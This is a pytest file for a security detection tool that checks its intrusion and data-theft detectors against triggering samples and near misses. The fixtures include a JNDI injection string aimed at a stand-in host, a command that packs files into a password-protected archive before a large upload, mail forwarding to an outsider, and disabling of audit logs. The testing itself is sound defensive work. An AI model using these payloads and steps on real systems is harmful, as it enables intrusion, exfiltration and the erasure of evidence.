"""Over the whole registry: each detector has a file, a docs section, something it hits and a near miss it leaves alone."""

import inspect
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from impact_lab import ITEM, OURS, START, batch, change, event

from beartrap.engine.detector import Meta
from beartrap.impact.onward import ALL_RELEASES, ALL_TRAFFIC, audit_detectors
from beartrap.impact.onward.releases import OwnReleases, Releases
from beartrap.impact.onward.signing_keys import SigningKeys
from beartrap.impact.pairs import Pairs
from beartrap.impact.seen import ALL
from beartrap.impact.seen.actor_bytes import ActorBytes
from beartrap.impact.seen.archives_staged import ArchivesStaged
from beartrap.impact.seen.chain import AccessChain
from beartrap.impact.seen.examination import Examination
from beartrap.impact.seen.mapped import DataMap
from beartrap.impact.sides import Sides
from beartrap.impact.traffic import TrafficEnded, Traffics
from beartrap.model.audit import Access, AuditEvent, Log
from beartrap.model.connection import Connection, Traffic
from beartrap.model.finding import Finding, Severity
from beartrap.model.place import Place
from beartrap.model.release import Artefact

ROOT = Path(__file__).resolve().parents[2]
SIDES = Sides(OURS)
KEY = "[KeyIdentifier=59eaeebc-8a6b-44a6-9f24-7d55e64420c9,KeyType=Password,DisplayName=x]"


def cloud(key: str, **fields: Any) -> AuditEvent:
    return event(key, **{"log": Log.CLOUD, "ok": True, "store": "111111111111", **fields})


AUDIT: dict[str, tuple[AuditEvent, AuditEvent]] = {
    "seen.federation-changed": (
        event("set domain authentication", target="lab.example"),
        event("set company information"),
    ),
    "seen.app-credentials": (
        event(
            "update application - certificates and secrets management",
            target="App",
            changes=change("KeyDescription", KEY, "[]"),
        ),
        event("update application", target="App", changes=change("KeyDescription", "[]", KEY)),
    ),
    "seen.consent": (
        event(
            "add app role assignment to service principal",
            target="Microsoft Graph",
            changes=change("AppRole.Value", "Mail.Read"),
        ),
        event("update application", target="App", changes=change("DisplayName", "Mail")),
    ),
    "seen.forged-saml": (
        event("userloggedin", details=(("UserAuthenticationMethod", "16457"),)),
        event("userloggedin", details=(("UserAuthenticationMethod", "16458"),)),
    ),
    "seen.mail-powershell": (
        event("mailboxlogin", agent="Client=PowerShell"),
        event("mailboxlogin", agent="Client=Outlook"),
    ),
    "seen.mail-read": (event("mailitemsaccessed", access=Access.BIND, items=ITEM), event("moveitems", items=ITEM)),
    "seen.files-read": (
        event("filedownloaded", target="https://x.invalid/sites/a/b.docx"),
        event("fileuploaded", target="https://x.invalid/sites/a/b.docx"),
    ),
    "seen.chats-read": (event("messageslisted", store="19:chat"), event("messagesent", store="19:chat")),
    "seen.mail-rules": (
        event("new-inboxrule", details=(("ForwardTo", "eve@elsewhere.example"),)),
        event("set-mailbox", details=(("Language", "nl-NL"),)),
    ),
    "seen.delegation": (
        event("add-mailboxpermission", target="anna", details=(("User", "eve"), ("AccessRights", "FullAccess"))),
        event("set-mailbox", details=(("Language", "nl-NL"),)),
    ),
    "seen.searches": (event("searchcreated", details=(("Query", "vpn"),)), event("searchremoved")),
    "seen.audit-off": (
        event("set-adminauditlogconfig", details=(("UnifiedAuditLogIngestionEnabled", "False"),)),
        event("set-adminauditlogconfig", details=(("UnifiedAuditLogIngestionEnabled", "True"),)),
    ),
    "seen.cloud-data": (cloud("getobject", target="bucket/key"), cloud("getobject", target="bucket/key", ok=False)),
    "seen.cloud-secrets": (
        cloud("getsecretvalue", target="secret"),
        cloud("getparameter", target="p", details=(("request.withDecryption", "False"),)),
    ),
    "seen.trail-tampering": (cloud("deletetrail", target="t"), cloud("describetrails")),
    "onward.mail-sent": (
        event(
            "send",
            app="aaaaaaaa-0000-0000-0000-000000000001",
            via="00000003-0000-0000-c000-000000000000",
            mailbox="anna@lab.example",
            items=ITEM,
        ),
        event("send", app="5d661950-3475-41cd-a2c3-d671a3162bc1", mailbox="anna@lab.example", items=ITEM),
    ),
    "onward.partner-access": (
        event(
            "sign-in",
            log=Log.SIGN_IN,
            details=(("crossTenantAccessType", "serviceProvider"), ("homeTenantId", "h"), ("resourceTenantId", "r")),
        ),
        event(
            "sign-in",
            log=Log.SIGN_IN,
            details=(("crossTenantAccessType", "none"), ("homeTenantId", "h"), ("resourceTenantId", "h")),
        ),
    ),
    "onward.cloud-shared": (
        cloud(
            "modifysnapshotattribute", details=(("request.createVolumePermission.add.items.userId", "222222222222"),)
        ),
        cloud(
            "modifysnapshotattribute", details=(("request.createVolumePermission.remove.items.userId", "222222222222"),)
        ),
    ),
}
AUDIT_DETECTORS = (*ALL, *(type(one) for one in audit_detectors(SIDES)))
ALL_METAS = (*AUDIT_DETECTORS, AccessChain, DataMap, ActorBytes, ArchivesStaged, *ALL_TRAFFIC, *ALL_RELEASES)


def made(kind: type) -> Any:
    return kind(SIDES) if kind.meta.id in ("onward.partner-access", "onward.cloud-shared") else kind()  # type: ignore[attr-defined]


def found(detector: Any, subjects: Iterable[Any]) -> list[Finding]:
    return [one for subject in subjects for one in detector.look(subject) if isinstance(one, Finding)]


@pytest.mark.parametrize("kind", AUDIT_DETECTORS, ids=lambda kind: kind.meta.id)
def test_each_audit_detector_hits_and_leaves_the_near_miss_alone(kind: Any) -> None:
    hit, miss = AUDIT[kind.meta.id]
    assert [one.detector for one in found(made(kind), batch(hit))] == [kind.meta.id]
    assert found(made(kind), batch(miss)) == []


def connection(number: int, **fields: Any) -> Connection:
    base = {
        "kind": Traffic.CONNECTION,
        "file": "c",
        "row": number,
        "time": START,
        "source": "10.0.0.1",
        "target": "203.0.113.1",
        "port": 22,
        "protocol": "tcp",
        "failed": False,
        "bytes_out": 900,
        "bytes_in": 900,
    }
    return Connection(**{**base, **fields})


def request(**fields: Any) -> Connection:
    return connection(1, **{"kind": Traffic.REQUEST, "port": 80, "method": "GET", **fields})


TRAFFIC: dict[str, tuple[list[Connection], list[Connection]]] = {
    "onward.scan": (
        [connection(n, target=f"203.0.113.{n}", port=8080, failed=True, bytes_in=0) for n in range(25)],
        [connection(n, target=f"203.0.113.{n}", port=443) for n in range(200)],
    ),
    "onward.exploit-attempts": (
        [request(uri="/?x=${jndi:ldap://x.invalid/a}")],
        [request(uri="/docs/etc/readme?select=union")],
    ),
    "onward.brute-force": ([connection(n) for n in range(60)], [connection(n) for n in range(59)]),
}


@pytest.mark.parametrize("kind", ALL_TRAFFIC, ids=lambda kind: kind.meta.id)
def test_each_traffic_detector_hits_and_leaves_the_near_miss_alone(kind: Any) -> None:
    hit, miss = TRAFFIC[kind.meta.id]
    assert [one.severity for one in found(kind(SIDES), [Traffics(tuple(hit)), TrafficEnded()])] == [Severity.HIGH]
    assert found(kind(SIDES), [Traffics(tuple(miss)), TrafficEnded()]) == []


@pytest.mark.parametrize("kind", ALL_TRAFFIC, ids=lambda kind: kind.meta.id)
def test_what_goes_to_a_partner_or_within_is_no_attack(kind: Any) -> None:
    hit, _ = TRAFFIC[kind.meta.id]
    inside = [
        Connection(**{**{f: getattr(one, f) for f in one.__dataclass_fields__}, "target": f"10.9.0.{one.row}"})
        for one in hit
    ]
    assert found(kind(SIDES), [Traffics(tuple(inside)), TrafficEnded()]) == []
    partner = [
        Connection(**{**{f: getattr(one, f) for f in one.__dataclass_fields__}, "target": "198.51.100.7"})
        for one in hit
    ]
    assert all(
        one.severity is Severity.INFO and one.facts.get("known") == "partner Pompwerk"
        for one in found(kind(SIDES), [Traffics(tuple(partner)), TrafficEnded()])
    )


def artefact(name: str, digest: str, **fields: Any) -> Artefact:
    return Artefact(name, (("sha256", digest * 64),), Place("r"), **fields)


def test_releases_that_differ_and_those_that_do_not() -> None:
    built = [artefact("dist/a.zip", "a"), artefact("b.zip", "b")]
    assert [
        one.severity
        for one in OwnReleases().look(Releases(built, [artefact("a.zip", "c"), artefact("b.zip", "b")]))
        if isinstance(one, Finding)
    ] == [Severity.CRITICAL]
    assert list(OwnReleases().look(Releases(built, [artefact("a.zip", "a"), artefact("b.zip", "b")]))) == []


def test_keys_that_signed_what_was_never_built() -> None:
    built = [artefact("a.zip", "a")]
    assert len(found(SigningKeys(), [Releases(built, [artefact("x.dll", "d", key="ours", user="build")])])) == 1
    assert found(SigningKeys(), [Releases(built, [artefact("other-name.zip", "a")])]) == []


def test_bytes_to_the_actor_and_to_somebody_else() -> None:
    pairs = Pairs()
    pairs.take(Traffics((connection(1), connection(2, target="203.0.113.9"))))
    assert len(found(ActorBytes(SIDES, frozenset({"203.0.113.1"}), pairs), [TrafficEnded()])) == 1
    assert found(ActorBytes(SIDES, frozenset({"203.0.113.8"}), pairs), [TrafficEnded()]) == []


def test_packed_and_sent_or_merely_unpacked() -> None:
    def command(text: str) -> Connection:
        return connection(1, kind=Traffic.COMMAND, source="files-01", target="", port=0, uri=text)

    packed = [
        command('"C:\\tools\\7z.exe" a -hpS3cret c:\\t\\x.7z d:\\board'),
        request(method="PUT", uri="/up/x.7z?k=1", bytes_out=20_000_000),
    ]
    assert [one.severity for one in found(ArchivesStaged(SIDES), [Traffics(tuple(packed)), TrafficEnded()])] == [
        Severity.MEDIUM,
        Severity.MEDIUM,
    ]
    unpacked = [
        command("7z.exe x c:\\t\\setup.7z"),
        request(method="GET", uri="/down/setup.7z"),
        request(method="PUT", uri="/up/x.7z", target="10.0.0.9"),
    ]
    assert found(ArchivesStaged(SIDES), [Traffics(tuple(unpacked)), TrafficEnded()]) == []


def test_the_chain_and_the_map_tell_what_the_others_kept() -> None:
    app = "aaaaaaaa-0000-0000-0000-000000000001"
    run = Examination()
    hit, _ = AUDIT["seen.app-credentials"]
    secret = event(hit.key, target="App", target_id=app, changes=hit.changes)
    reading = event("mailitemsaccessed", access=Access.BIND, items=ITEM, app=app, mailbox="bram@lab.example")
    both, _ = batch(secret, reading)
    run.take(both)
    shown = [both, run.end()]
    findings = [one for detector in run.detectors for one in found(detector, shown)]
    assert [one.confirmed for one in findings if one.detector == AccessChain.meta.id] == [True]
    lines = [
        one for one in findings if one.detector == DataMap.meta.id and one.facts.get("person") == "bram@lab.example"
    ]
    assert {one.facts.get("tie") for one in lines} == {"exact"}
    alone = Examination()
    first, _ = batch(secret)
    assert found(alone.chain, [first, alone.end()]) == []


@pytest.mark.parametrize("kind", ALL_METAS, ids=lambda kind: kind.meta.id)
def test_each_detector_says_what_it_is_and_stands_in_the_docs(kind: Any) -> None:
    meta = kind.meta
    assert isinstance(meta, Meta) and re.fullmatch(r"(seen|onward)\.[a-z]+(-[a-z]+)*", meta.id)
    assert meta.title and meta.why.endswith(".") and meta.needs and meta.questions and meta.references
    assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", technique) for technique in meta.techniques)
    page = "impact" if meta.id.startswith("seen") else "onward"
    assert f"### `{meta.id}`" in (ROOT / "docs" / f"{page}.md").read_text(encoding="utf-8")
    assert inspect.getdoc(kind)


def test_ids_are_unique_and_one_detector_lives_in_each_file() -> None:
    assert (
        len({kind.meta.id for kind in ALL_METAS})
        == len(ALL_METAS)
        == len({inspect.getsourcefile(kind) for kind in ALL_METAS})
    )
    assert set(AUDIT) == {kind.meta.id for kind in AUDIT_DETECTORS} and set(TRAFFIC) == {
        kind.meta.id for kind in ALL_TRAFFIC
    }
